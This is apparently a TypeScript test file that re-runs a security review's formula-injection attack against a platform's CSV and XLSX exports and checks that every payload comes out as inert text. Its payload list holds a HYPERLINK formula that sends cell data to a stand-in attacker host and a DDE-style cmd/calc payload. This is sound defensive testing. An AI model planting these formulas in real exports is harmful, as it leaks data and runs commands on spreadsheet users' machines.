// Formula injection (issue 16, Medium #3): a value a spreadsheet would run as a formula comes out as
// text in every CSV (lists' exports, DPO's audit export, portability, open data) and as a plain
// string in XLSX. A scripted re-run of the review's attack.
import type { Readable } from "node:stream";
import ExcelJS from "exceljs";
import { beforeEach, describe, expect, it } from "vitest";
import { exportAuditEvents } from "@/lib/audit/audit.query";
import { recordAudit } from "@/lib/audit/audit.service";
import { csvCell, csvDocument } from "@/lib/exports/csv";
import { startTableExport } from "@/lib/exports/table-export.service";
import { toPortableCsv } from "@/lib/rights/access-document";
import { toScdlCsv } from "@/lib/subsidy/subsidy-compliance.rules";
import { createCompany, createPlatform, createRuleSets, platformUser } from "@/tests/factories";
import { principal } from "@/tests/factories/job-seeker-side";
import { db, resetDb } from "@/tests/support/db";

const PAYLOADS = ['=HYPERLINK("http://attaquant.example/?x="&A1,"clic")', "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"];
const now = new Date("2026-11-23T10:00:00Z");

async function text(stream: Readable): Promise<string> {
  const chunks: Buffer[] = [];
  for await (const c of stream) chunks.push(Buffer.from(c as Uint8Array));
  return Buffer.concat(chunks).toString("utf8");
}

/** Every cell of a semicolon CSV whose text (unquoted) starts like a formula: there must be none. */
function liveFormulas(csv: string, separator = ";"): string[] {
  const cells: string[] = [];
  let cell = "";
  let quoted = false;
  const body = csv.replace(/^\uFEFF/, "");
  for (let i = 0; i < body.length; i++) {
    const ch = body[i]!;
    if (quoted) {
      if (ch === '"' && body[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"' && cell === "") quoted = true;
    else if (ch === separator || ch === "\n") {
      cells.push(cell);
      cell = "";
    }
    else if (ch !== "\r" || body[i + 1] !== "\n") cell += ch;
  }
  return cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?\d+([.,]\d+)?$/.test(c));
}

beforeEach(resetDb);

describe("injection de formules dans les exports", () => {
  it("le rédacteur CSV neutralise chaque début dangereux et garde les nombres", () => {
    for (const p of PAYLOADS) expect(csvCell(p).replace(/^"/, "").startsWith("'")).toBe(true);
    expect(csvCell(-12.5)).toBe("-12.5");
    expect(csvCell("Boulangerie ; fils")).toBe('"Boulangerie ; fils"');
    expect(liveFormulas(csvDocument([PAYLOADS]))).toEqual([]);
  });

  it("export CSV d'une liste : une entreprise nommée =HYPERLINK(…) sort en texte", async () => {
    await createRuleSets(db);
    const lens = await createPlatform(db, "Lens-Liévin");
    const manager = await platformUser(db, "PLATFORM_MANAGER", lens.id);
    for (const name of PAYLOADS) await createCompany(db, lens.id, { name });
    const started = await startTableExport(db, manager, "companies", {}, "csv", {}, now);
    if (started.mode !== "inline") throw new Error("inline attendu");
    const csv = await text(started.stream);
    expect(csv).toContain(`'=HYPERLINK(""http://attaquant.example`);
    expect(liveFormulas(csv)).toEqual([]);
  });

  it("export XLSX d'une liste : la valeur reste une chaîne, jamais une formule", async () => {
    await createRuleSets(db);
    const lens = await createPlatform(db, "Lens-Liévin");
    const manager = await platformUser(db, "PLATFORM_MANAGER", lens.id);
    await createCompany(db, lens.id, { name: PAYLOADS[0] });
    const started = await startTableExport(db, manager, "companies", {}, "xlsx", {}, now);
    if (started.mode !== "inline") throw new Error("inline attendu");
    const chunks: Buffer[] = [];
    for await (const c of started.stream) chunks.push(Buffer.from(c as Uint8Array));
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.concat(chunks) as unknown as ArrayBuffer);
    const values: unknown[] = [];
    wb.worksheets[0]!.eachRow((row) => row.eachCell((cell) => values.push(cell.value)));
    expect(values).toContain(PAYLOADS[0]);
    expect(values.every((v) => v === null || typeof v !== "object" || v instanceof Date)).toBe(true);
  });

  it("export du journal d'audit par la DPO : un motif planté par un responsable sort en texte", async () => {
    const dpo = await principal(db, "DPO");
    for (const reason of PAYLOADS) await recordAudit(db, { action: "jobSeeker.archived.read", actorId: dpo.id, entityType: "JobSeeker", reason });
    const csv = (await exportAuditEvents(db, dpo, { format: "csv" })).body.toString("utf8");
    expect(csv).toContain(`'=HYPERLINK(`);
    expect(liveFormulas(csv)).toEqual([]);
  });

  it("CSV de portabilité envoyé à la personne, et CSV open data : aucune formule vive", () => {
    const portable = toPortableCsv({ generatedAt: now, person: { lastName: PAYLOADS[0], firstName: PAYLOADS[3] }, sections: [{ title: "Notes", rows: [{ texte: PAYLOADS[1] }] }] } as never);
    expect(liveFormulas(portable)).toEqual([]);
    const record = { nomAttribuant: PAYLOADS[0], objet: PAYLOADS[2], montant: -5 } as never;
    expect(liveFormulas(toScdlCsv([record]), ",")).toEqual([]);
  });
});
